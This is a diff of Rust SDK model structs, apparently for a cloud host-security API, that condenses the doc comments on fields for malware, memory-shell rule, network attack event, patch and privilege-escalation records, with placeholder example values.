-    /// `VirusName`: a string.
-    ///
-    /// Example: `"virus.php"`
+    /// `VirusName`; example: `"virus.php"`
     pub virus_name: String,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2022-01-01 00:00:00"`
+    /// `CreateTime`; example: `"2022-01-01 00:00:00"`
     pub create_time: String,
 
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `10001`
+    /// `Id`; example: `10001`
     pub id: u64,
 }
 
@@ -8239,29 +5371,19 @@ pub struct MalwareRisk {
 /// Returned in the output of [`DescribeMalwareRiskOverview`](super::DescribeMalwareRiskOverview).
 #[tc_model]
 pub struct MalwareRiskOverview {
-    /// `HostCount`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `HostCount`; example: `1`
     pub host_count: i64,
 
-    /// `ProcessCount`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ProcessCount`; example: `1`
     pub process_count: i64,
 
-    /// `FileCount`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `FileCount`; example: `1`
     pub file_count: i64,
 
-    /// `IsFirstScan`: a boolean.
-    ///
-    /// Example: `true`
+    /// `IsFirstScan`; example: `true`
     pub is_first_scan: bool,
 
-    /// `ScanTime`: a string.
-    ///
-    /// Example: `"2022-09-23 15:11:46"`
+    /// `ScanTime`; example: `"2022-09-23 15:11:46"`
     pub scan_time: String,
 }
 
@@ -8270,29 +5392,19 @@ pub struct MalwareRiskOverview {
 /// Returned in the output of [`DescribeMalwareWhiteListAffectList`](super::DescribeMalwareWhiteListAffectList).
 #[tc_model]
 pub struct MalwareWhiteListAffectEvent {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: u64,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"10.0.0.1"`
+    /// `HostIp`; example: `"10.0.0.1"`
     pub host_ip: String,
 
-    /// `Md5`: a string.
-    ///
-    /// Example: `"708cae4cf814c3deda4208da228fad4e"`
+    /// `Md5`; example: `"708cae4cf814c3deda4208da228fad4e"`
     pub md5: String,
 
-    /// `FilePath`: a string.
-    ///
-    /// Example: `"/tmp/test"`
+    /// `FilePath`; example: `"/tmp/test"`
     pub file_path: String,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2024-10-30 09:12:21"`
+    /// `CreateTime`; example: `"2024-10-30 09:12:21"`
     pub create_time: String,
 }
 
@@ -8301,64 +5413,40 @@ pub struct MalwareWhiteListAffectEvent {
 /// Returned in the output of [`DescribeMalwareWhiteList`](super::DescribeMalwareWhiteList).
 #[tc_model]
 pub struct MalwareWhiteListInfo {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: u64,
 
-    /// `QuuidList`: a string.
-    ///
-    /// Example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
+    /// `QuuidList`; example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
     pub quuid_list: String,
 
-    /// `Md5List`: a string.
-    ///
-    /// Example: `"708cae4cf814c3deda4208da228fad4e"`
+    /// `Md5List`; example: `"708cae4cf814c3deda4208da228fad4e"`
     pub md5_list: String,
 
-    /// `IsGlobal`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsGlobal`; example: `1`
     pub is_global: u64,
 
-    /// `Mode`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Mode`; example: `1`
     pub mode: u64,
 
-    /// `MatchType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `MatchType`; example: `1`
     pub match_type: u64,
 
-    /// `FileName`: a string.
-    ///
-    /// Example: `"index"`
+    /// `FileName`; example: `"index"`
     pub file_name: String,
 
-    /// `FileDirectory`: a string.
-    ///
-    /// Example: `"/tmp"`
+    /// `FileDirectory`; example: `"/tmp"`
     pub file_directory: String,
 
-    /// `FileExtension`: a string.
-    ///
-    /// Example: `"php"`
+    /// `FileExtension`; example: `"php"`
     pub file_extension: String,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2024-10-30 09:12:21"`
+    /// `CreateTime`; example: `"2024-10-30 09:12:21"`
     pub create_time: String,
 
-    /// `EventsCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `EventsCount`; example: `1`
     pub events_count: u64,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2024-10-30 09:12:21"`
+    /// `ModifyTime`; example: `"2024-10-30 09:12:21"`
     pub modify_time: String,
 }
 
@@ -8367,103 +5455,65 @@ pub struct MalwareWhiteListInfo {
 /// Returned in the output of [`DescribeMemShellRules`](super::DescribeMemShellRules).
 #[tc_model]
 pub struct MemShellRule {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `12`
+    /// `Id`; example: `12`
     pub id: u64,
 
-    /// `UuidHostips`: a list of [`UuidHostip`] objects.
+    /// `UuidHostips`
     pub uuid_hostips: Vec<UuidHostip>,
 
-    /// `LogicalSymbol`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `LogicalSymbol`; example: `0`
     pub logical_symbol: u64,
 
-    /// `ClassNameRegexp`: a string.
-    ///
-    /// Example: `"webshell_filter"`
+    /// `ClassNameRegexp`; example: `"webshell_filter"`
     pub class_name_regexp: String,
 
-    /// `SuperClassNameRegexp`: a string.
-    ///
-    /// Example: `"org.apache.catalina.startup.Bootstrap"`
+    /// `SuperClassNameRegexp`; example: `"org.apache.catalina.startup.Bootstrap"`
     pub super_class_name_regexp: String,
 
-    /// `InterfacesRegexp`: a string.
-    ///
-    /// Example: `"org.apache.catalina.startup.Bootstrap"`
+    /// `InterfacesRegexp`; example: `"org.apache.catalina.startup.Bootstrap"`
     pub interfaces_regexp: String,
 
-    /// `AnnotationsRegexp`: a string.
-    ///
-    /// Example: `"org.apache.catalina.startup.Bootstrap"`
+    /// `AnnotationsRegexp`; example: `"org.apache.catalina.startup.Bootstrap"`
     pub annotations_regexp: String,
 
-    /// `LoaderClassNameRegexp`: a string.
-    ///
-    /// Example: `"org.apache.catalina.startup.Bootstrap"`
+    /// `LoaderClassNameRegexp`; example: `"org.apache.catalina.startup.Bootstrap"`
     pub loader_class_name_regexp: String,
 
-    /// `Operator`: a string.
-    ///
-    /// Example: `"username"`
+    /// `Operator`; example: `"username"`
     pub operator: Option<String>,
 
-    /// `IsGlobal`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `IsGlobal`; example: `0`
     pub is_global: u64,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Status`; example: `0`
     pub status: u64,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2024-09-20 15:32:26"`
+    /// `CreateTime`; example: `"2024-09-20 15:32:26"`
     pub create_time: String,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2024-11-03 15:09:33"`
+    /// `ModifyTime`; example: `"2024-11-03 15:09:33"`
     pub modify_time: String,
 
-    /// `HandleHistory`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `HandleHistory`; example: `1`
     pub handle_history: u64,
 
-    /// `GroupID`: a string.
-    ///
-    /// Example: `"ece9dcb3-e427-4ded-ac6f-727cce79130b"`
+    /// `GroupID`; example: `"ece9dcb3-e427-4ded-ac6f-727cce79130b"`
     #[tc(rename = "GroupID")]
     pub group_id: String,
 
-    /// `MachinesNums`: a string.
-    ///
-    /// Example: `"2"`
+    /// `MachinesNums`; example: `"2"`
     pub machines_nums: String,
 
-    /// `GroupName`: a string.
-    ///
-    /// Example: `"groupname"`
+    /// `GroupName`; example: `"groupname"`
     pub group_name: Option<String>,
 
-    /// `CodeSourceRegexp`: a string.
-    ///
-    /// Example: `"eval"`
+    /// `CodeSourceRegexp`; example: `"eval"`
     pub code_source_regexp: Option<String>,
 
-    /// `CallStackRegexp`: a string.
-    ///
-    /// Example: `"eval"`
+    /// `CallStackRegexp`; example: `"eval"`
     pub call_stack_regexp: Option<String>,
 
-    /// `FileExist`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `FileExist`; example: `0`
     pub file_exist: Option<u64>,
 }
 
@@ -8472,96 +5522,62 @@ pub struct MemShellRule {
 /// Returned in the output of [`DescribeAttackEvents`](super::DescribeAttackEvents).
 #[tc_model]
 pub struct NetAttackEvent {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `49992719`
+    /// `Id`; example: `49992719`
     pub id: u64,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"ebc62d3a-a4de-46ad-a0d5-b94cb8fd****"`
+    /// `Uuid`; example: `"ebc62d3a-a4de-46ad-a0d5-b94cb8fd****"`
     pub uuid: String,
 
-    /// `DstPort`: an unsigned 64-bit integer.
-    ///
-    /// Example: `443`
+    /// `DstPort`; example: `443`
     pub dst_port: u64,
 
-    /// `SrcIP`: a string.
-    ///
-    /// Example: `"39.105.16****"`
+    /// `SrcIP`; example: `"39.105.16****"`
     #[tc(rename = "SrcIP")]
     pub src_ip: String,
 
-    /// `Location`: a string.
-    ///
-    /// Example: `"北京市-北京市"`
+    /// `Location`; example: `"北京市-北京市"`
     pub location: String,
 
-    /// `VulId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `100377`
+    /// `VulId`; example: `100377`
     pub vul_id: u64,
 
-    /// `VulName`: a string.
-    ///
-    /// Example: `"ThinkPHP App.php / Module.php 远程代码****"`
+    /// `VulName`; example: `"ThinkPHP App.php / Module.php 远程代码****"`
     pub vul_name: String,
 
-    /// `MergeTime`: a string.
-    ///
-    /// Example: `"2024-11-01 00:3****"`
+    /// `MergeTime`; example: `"2024-11-01 00:3****"`
     pub merge_time: String,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 
-    /// `Type`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Type`; example: `0`
     pub r#type: u64,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Status`; example: `0`
     pub status: u64,
 
-    /// `VulSupportDefense`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `VulSupportDefense`; example: `0`
     pub vul_support_defense: u64,
 
-    /// `VulDefenceStatus`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `VulDefenceStatus`; example: `0`
     pub vul_defence_status: u64,
 
-    /// `PayVersion`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `PayVersion`; example: `1`
     pub pay_version: u64,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"ebc62d3a-a4de-46ad-a0d5-b94cb8fd****"`
+    /// `Quuid`; example: `"ebc62d3a-a4de-46ad-a0d5-b94cb8fd****"`
     pub quuid: String,
 
-    /// `Count`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Count`; example: `1`
     pub count: u64,
 
-    /// `New`: a boolean.
-    ///
-    /// Example: `false`
+    /// `New`; example: `false`
     pub new: bool,
 
-    /// `RaspOpen`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `RaspOpen`; example: `1`
     pub rasp_open: Option<i64>,
 
-    /// `IPAnalyse`: an [`IpAnalyse`].
+    /// `IPAnalyse`
     #[tc(rename = "IPAnalyse")]
     pub ip_analyse: Option<IpAnalyse>,
 }
@@ -8571,124 +5587,82 @@ pub struct NetAttackEvent {
 /// Returned in the output of [`DescribeAttackEventInfo`](super::DescribeAttackEventInfo).
 #[tc_model]
 pub struct NetAttackEventInfo {
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: u64,
 
-    /// `SrcIP`: a string.
-    ///
-    /// Example: `"180.184.13****"`
+    /// `SrcIP`; example: `"180.184.13****"`
     #[tc(rename = "SrcIP")]
     pub src_ip: String,
 
-    /// `Location`: a string.
-    ///
-    /// Example: `"上海市-上海市"`
+    /// `Location`; example: `"上海市-上海市"`
     pub location: String,
 
-    /// `VulName`: a string.
-    ///
-    /// Example: `"Weblogic 反序列化远程代码执行漏洞 (CVE-2019-2****"`
+    /// `VulName`; example: `"Weblogic 反序列化远程代码执行漏洞 (CVE-2019-2****"`
     pub vul_name: String,
 
-    /// `VulId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `100386`
+    /// `VulId`; example: `100386`
     pub vul_id: u64,
 
-    /// `CVEId`: a string.
-    ///
-    /// Example: `"CVE-2019-****"`
+    /// `CVEId`; example: `"CVE-2019-****"`
     #[tc(rename = "CVEId")]
     pub cve_id: String,
 
-    /// `AttackLevel`: an unsigned 64-bit integer.
-    ///
-    /// Example: `3`
+    /// `AttackLevel`; example: `3`
     pub attack_level: u64,
 
-    /// `VulDefenceStatus`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `VulDefenceStatus`; example: `1`
     pub vul_defence_status: u64,
 
-    /// `VulSupportDefense`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `VulSupportDefense`; example: `1`
     pub vul_support_defense: u64,
 
-    /// `SvcPs`: a string.
+    /// `SvcPs`
     pub svc_ps: String,
 
-    /// `NetPayload`: a string.
+    /// `NetPayload`
     pub net_payload: String,
 
-    /// `AbnormalAction`: a string.
-    ///
-    /// Example: `"dnslog:v5igcrlnyt94ka7f.k2qb16y0.ser.dnslog****"`
+    /// `AbnormalAction`; example: `"dnslog:v5igcrlnyt94ka7f.k2qb16y0.ser.dnslog****"`
     pub abnormal_action: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"3ddf6cc1-9389-4b9a-a10b-85f30491****"`
+    /// `Uuid`; example: `"3ddf6cc1-9389-4b9a-a10b-85f30491****"`
     pub uuid: String,
 
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `49754647`
+    /// `Id`; example: `49754647`
     pub id: u64,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 
-    /// `DstPort`: an unsigned 64-bit integer.
-    ///
-    /// Example: `80`
+    /// `DstPort`; example: `80`
     pub dst_port: u64,
 
-    /// `Count`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Count`; example: `1`
     pub count: u64,
 
-    /// `PayVersion`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `PayVersion`; example: `1`
     pub pay_version: u64,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"3ddf6cc1-9389-4b9a-a10b-85f30491****"`
+    /// `Quuid`; example: `"3ddf6cc1-9389-4b9a-a10b-85f30491****"`
     pub quuid: String,
 
-    /// `MergeTime`: a string.
-    ///
-    /// Example: `"2024-10-29 22:3****"`
+    /// `MergeTime`; example: `"2024-10-29 22:3****"`
     pub merge_time: String,
 
-    /// `Type`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Type`; example: `1`
     pub r#type: u64,
 
-    /// `HostOpType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `HostOpType`; example: `1`
     pub host_op_type: u64,
 
-    /// `HostOpProcessTree`: a string.
-    ///
-    /// Example: `"YW*jZA=="`
+    /// `HostOpProcessTree`; example: `"YW*jZA=="`
     pub host_op_process_tree: Option<String>,
 
-    /// `IPAnalyse`: an [`IpAnalyse`].
+    /// `IPAnalyse`
     #[tc(rename = "IPAnalyse")]
     pub ip_analyse: Option<IpAnalyse>,
 
-    /// `NetResponsePayload`: a string.
-    ///
-    /// Example: `"response data"`
+    /// `NetResponsePayload`; example: `"response data"`
     pub net_response_payload: Option<String>,
 }
 
@@ -8697,16 +5671,16 @@ pub struct NetAttackEventInfo {
 /// Returned in the output of [`DescribeAttackTop`](super::DescribeAttackTop).
 #[tc_model]
 pub struct NetAttackTopInfo {
-    /// `Agent`: a list of [`TopInfo`] objects.
+    /// `Agent`
     pub agent: Vec<TopInfo>,
 
-    /// `SrcIp`: a list of [`TopInfo`] objects.
+    /// `SrcIp`
     pub src_ip: Vec<TopInfo>,
 
-    /// `DstPort`: a list of [`TopInfo`] objects.
+    /// `DstPort`
     pub dst_port: Vec<TopInfo>,
 
-    /// `Vul`: a list of [`TopInfo`] objects.
+    /// `Vul`
     pub vul: Vec<TopInfo>,
 }
 
@@ -8715,24 +5689,16 @@ pub struct NetAttackTopInfo {
 /// Returned in the output of [`DescribeAttackTrends`](super::DescribeAttackTrends).
 #[tc_model]
 pub struct NetAttackTrend {
-    /// `DateTime`: a string.
-    ///
-    /// Example: `"2024-1****"`
+    /// `DateTime`; example: `"2024-1****"`
     pub date_time: String,
 
-    /// `AttackCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `AttackCount`; example: `1`
     pub attack_count: u64,
 
-    /// `TryAttackCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `TryAttackCount`; example: `1`
     pub try_attack_count: u64,
 
-    /// `SuccAttackCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `SuccAttackCount`; example: `0`
     pub succ_attack_count: u64,
 }
 
@@ -8741,45 +5707,29 @@ pub struct NetAttackTrend {
 /// Returned in the output of [`DescribeNetAttackWhiteList`](super::DescribeNetAttackWhiteList).
 #[tc_model]
 pub struct NetAttackWhiteRule {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: u64,
 
-    /// `Description`: a string.
-    ///
-    /// Example: `"desc of rule"`
+    /// `Description`; example: `"desc of rule"`
     pub description: String,
 
-    /// `Scope`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Scope`; example: `1`
     pub scope: u64,
 
-    /// `DealOldEvents`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `DealOldEvents`; example: `1`
     pub deal_old_events: u64,
 
-    /// `Quuids`: a string.
-    ///
-    /// Example: `"ea71992a-b484-4d9c-882a-419fb6d0a5b0"`
+    /// `Quuids`; example: `"ea71992a-b484-4d9c-882a-419fb6d0a5b0"`
     pub quuids: String,
 
-    /// `SrcIP`: a string.
-    ///
-    /// Example: `"127.0.0.1"`
+    /// `SrcIP`; example: `"127.0.0.1"`
     #[tc(rename = "SrcIP")]
     pub src_ip: String,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2024-10-30 02:18:51"`
+    /// `CreateTime`; example: `"2024-10-30 02:18:51"`
     pub create_time: String,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2024-10-30 02:18:51"`
+    /// `ModifyTime`; example: `"2024-10-30 02:18:51"`
     pub modify_time: String,
 }
 
@@ -8788,14 +5738,10 @@ pub struct NetAttackWhiteRule {
 /// Returned in the output of [`DescribeOpenPortStatistics`](super::DescribeOpenPortStatistics).
 #[tc_model]
 pub struct OpenPortStatistics {
-    /// `Port`: an unsigned 64-bit integer.
-    ///
-    /// Example: `8080`
+    /// `Port`; example: `8080`
     pub port: u64,
 
-    /// `MachineNum`: an unsigned 64-bit integer.
-    ///
-    /// Example: `100`
+    /// `MachineNum`; example: `100`
     pub machine_num: u64,
 }
 
@@ -8804,25 +5750,17 @@ pub struct OpenPortStatistics {
 /// Returned in the output of [`DescribeRaspLicenseList`](super::DescribeRaspLicenseList).
 #[tc_model]
 pub struct OrderDetail {
-    /// `ResourceID`: a string.
-    ///
-    /// Example: `"cwplic-xxxx"`
+    /// `ResourceID`; example: `"cwplic-xxxx"`
     #[tc(rename = "ResourceID")]
     pub resource_id: Option<String>,
 
-    /// `InquireKey`: a string.
-    ///
-    /// Example: `"sv_yunjing_xxx"`
+    /// `InquireKey`; example: `"sv_yunjing_xxx"`
     pub inquire_key: Option<String>,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: Option<u64>,
 
-    /// `SourceType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `SourceType`; example: `0`
     pub source_type: Option<u64>,
 }
 
@@ -8831,19 +5769,13 @@ pub struct OrderDetail {
 /// Sent in the input of [`CreateLicenseOrder`](super::CreateLicenseOrder).
 #[tc_model]
 pub struct OrderModifyObject {
-    /// `ResourceId`: a string.
-    ///
-    /// Example: `"'cakf-4mrnx******'"`
+    /// `ResourceId`; example: `"'cakf-4mrnx******'"`
     pub resource_id: Option<String>,
 
-    /// `NewSubProductCode`: a string.
-    ///
-    /// Example: `"PRO_VERSION"`
+    /// `NewSubProductCode`; example: `"PRO_VERSION"`
     pub new_sub_product_code: Option<String>,
 
-    /// `InquireNum`: a signed 64-bit integer.
-    ///
-    /// Example: `1242`
+    /// `InquireNum`; example: `1242`
     pub inquire_num: Option<i64>,
 }
 
@@ -8852,29 +5784,19 @@ pub struct OrderModifyObject {
 /// Returned in the output of [`CreateWhiteListOrder`](super::CreateWhiteListOrder).
 #[tc_model]
 pub struct OrderResource {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: u64,
 
-    /// `ResourceId`: a string.
-    ///
-    /// Example: `"资源ID"`
+    /// `ResourceId`; example: `"资源ID"`
     pub resource_id: String,
 
-    /// `BeginTime`: a string.
-    ///
-    /// Example: `"2022-01-01 00:00:00"`
+    /// `BeginTime`; example: `"2022-01-01 00:00:00"`
     pub begin_time: String,
 
-    /// `EndTime`: a string.
-    ///
-    /// Example: `"2022-01-01 00:00:00"`
+    /// `EndTime`; example: `"2022-01-01 00:00:00"`
     pub end_time: String,
 
-    /// `LicenseType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `LicenseType`; example: `1`
     pub license_type: u64,
 }
 
@@ -8883,14 +5805,10 @@ pub struct OrderResource {
 /// Returned in the output of [`DescribeMachineOsList`](super::DescribeMachineOsList).
 #[tc_model]
 pub struct OsName {
-    /// `Name`: a string.
-    ///
-    /// Example: `"Linux"`
+    /// `Name`; example: `"Linux"`
     pub name: String,
 
-    /// `MachineOSType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `MachineOSType`; example: `1`
     #[tc(rename = "MachineOSType")]
     pub machine_os_type: u64,
 }
@@ -8900,82 +5818,52 @@ pub struct OsName {
 /// Returned in the output of [`DescribePatchEffectHostList`](super::DescribePatchEffectHostList).
 #[tc_model]
 pub struct PatchEffectHostList {
-    /// `HostVersion`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `HostVersion`; example: `0`
     pub host_version: u64,
 
-    /// `InstanceState`: a string.
-    ///
-    /// Example: `"运行中"`
+    /// `InstanceState`; example: `"运行中"`
     pub instance_state: String,
 
-    /// `FirstScanTime`: a string.
-    ///
-    /// Example: `"2023-05-09 19:40:01"`
+    /// `FirstScanTime`; example: `"2023-05-09 19:40:01"`
     pub first_scan_time: String,
 
-    /// `LatestScanTime`: a string.
-    ///
-    /// Example: `"2023-05-09 19:40:01"`
+    /// `LatestScanTime`; example: `"2023-05-09 19:40:01"`
     pub latest_scan_time: String,
 
-    /// `FixStatus`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `FixStatus`; example: `0`
     pub fix_status: u64,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"8c09e1b1-5611-45b3-9c02-737996011b81"`
+    /// `Uuid`; example: `"8c09e1b1-5611-45b3-9c02-737996011b81"`
     pub uuid: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"8c09e1b1-5611-45b3-9c02-737996011b81"`
+    /// `Quuid`; example: `"8c09e1b1-5611-45b3-9c02-737996011b81"`
     pub quuid: String,
 
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1432`
+    /// `Id`; example: `1432`
     pub id: u64,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Status`; example: `0`
     pub status: u64,
 
-    /// `LatestFixTime`: a string.
-    ///
-    /// Example: `"2023-05-09 19:40:01"`
+    /// `LatestFixTime`; example: `"2023-05-09 19:40:01"`
     pub latest_fix_time: String,
 
-    /// `KbId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `KbId`; example: `1`
     pub kb_id: u64,
 
-    /// `RestartRequired`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `RestartRequired`; example: `1`
     pub restart_required: u64,
 
-    /// `RegionId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `RegionId`; example: `1`
     pub region_id: u64,
 
-    /// `MachineType`: a string.
-    ///
-    /// Example: `"CVM"`
+    /// `MachineType`; example: `"CVM"`
     pub machine_type: String,
 
-    /// `HasSnapshot`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `HasSnapshot`; example: `0`
     pub has_snapshot: Option<u64>,
 }
 
@@ -8984,35 +5872,23 @@ pub struct PatchEffectHostList {
 /// Returned in the output of [`DescribeScanTaskDetails`](super::DescribeScanTaskDetails).
 #[tc_model]
 pub struct PatchInfoDetail {
-    /// `KBNo`: a string.
-    ///
-    /// Example: `"KB5058381"`
+    /// `KBNo`; example: `"KB5058381"`
     #[tc(rename = "KBNo")]
     pub kb_no: String,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"适用于 Windows Server 2008 R2 的"`
+    /// `Name`; example: `"适用于 Windows Server 2008 R2 的"`
     pub name: String,
 
-    /// `PublishTime`: a string.
-    ///
-    /// Example: `"发布时间"`
+    /// `PublishTime`; example: `"发布时间"`
     pub publish_time: String,
 
-    /// `RelatedCveId`: a list of strings.
-    ///
-    /// Example: `["CVE-2025-30397"]`
+    /// `RelatedCveId`; example: `["CVE-2025-30397"]`
     pub related_cve_id: Vec<String>,
 
-    /// `KbDocUrl`: a string.
-    ///
-    /// Example: `"https://support.microsoft.com/en-us/help/5058380"`
+    /// `KbDocUrl`; example: `"https://support.microsoft.com/en-us/help/5058380"`
     pub kb_doc_url: String,
 
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: u64,
 }
 
@@ -9022,27 +5898,16 @@ pub struct PatchInfoDetail {
 /// Returned in the output of [`DescribeLoginWhiteCombinedList`](super::DescribeLoginWhiteCombinedList) and [`DescribeLoginWhiteList`](super::DescribeLoginWhiteList).
 #[tc_model]
 pub struct Place {
-    /// `CityId`: an unsigned 64-bit integer.
-    /// Required in requests.
-    ///
-    /// Example: `99`
+    /// `CityId`, required in requests; example: `99`
     pub city_id: Option<u64>,
 
-    /// `ProvinceId`: an unsigned 64-bit integer.
-    /// Required in requests.
-    ///
-    /// Example: `23`
+    /// `ProvinceId`, required in requests; example: `23`
     pub province_id: Option<u64>,
 
-    /// `CountryId`: an unsigned 64-bit integer.
-    /// Required in requests.
-    ///
-    /// Example: `104`
+    /// `CountryId`, required in requests; example: `104`
     pub country_id: Option<u64>,
 
-    /// `Location`: a string.
-    ///
-    /// Example: `"中国:北京市:北京市"`
+    /// `Location`; example: `"中国:北京市:北京市"`
     pub location: Option<String>,
 }
 
@@ -9052,23 +5917,19 @@ pub struct Place {
 /// Returned in the output of [`DescribeBashPolicies`](super::DescribeBashPolicies).
 #[tc_model]
 pub struct PolicyRules {
-    /// `Process`: a [`CommandLine`].
+    /// `Process`
     pub process: Option<CommandLine>,
 
-    /// `PProcess`: a [`CommandLine`].
+    /// `PProcess`
     pub p_process: Option<CommandLine>,
 
-    /// `AProcess`: a [`CommandLine`].
+    /// `AProcess`
     pub a_process: Option<CommandLine>,
 
-    /// `FilePath`: a string.
-    ///
-    /// Example: `"/tmp/test"`
+    /// `FilePath`; example: `"/tmp/test"`
     pub file_path: Option<String>,
 
-    /// `FileActions`: a list of strings.
-    ///
-    /// Example: `["write"]`
+    /// `FileActions`; example: `["write"]`
     pub file_actions: Option<Vec<String>>,
 }
 
@@ -9077,107 +5938,67 @@ pub struct PolicyRules {
 /// Returned in the output of [`DescribePrivilegeEvents`](super::DescribePrivilegeEvents).
 #[tc_model]
 pub struct PrivilegeEscalationProcess {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: u64,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
+    /// `Uuid`; example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
     pub uuid: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
+    /// `Quuid`; example: `"e5b4724c-49af-46ab-bd84-cdbae897e7e0"`
     pub quuid: String,
 
-    /// `Hostip`: a string.
-    ///
-    /// Example: `"10.0.0.1"`
+    /// `Hostip`; example: `"10.0.0.1"`
     pub hostip: String,
 
-    /// `ProcessName`: a string.
-    ///
-    /// Example: `"/etc/sshd"`
+    /// `ProcessName`; example: `"/etc/sshd"`
     pub process_name: String,
 
-    /// `FullPath`: a string.
-    ///
-    /// Example: `"/tmp/test"`
+    /// `FullPath`; example: `"/tmp/test"`
     pub full_path: String,
 
-    /// `CmdLine`: a string.
-    ///
-    /// Example: `"./a"`
+    /// `CmdLine`; example: `"./a"`
     pub cmd_line: String,
 
-    /// `UserName`: a string.
-    ///
-    /// Example: `"root"`
+    /// `UserName`; example: `"root"`
     pub user_name: String,
 
-    /// `UserGroup`: a string.
-    ///
-    /// Example: `"root"`
+    /// `UserGroup`; example: `"root"`
     pub user_group: String,
 
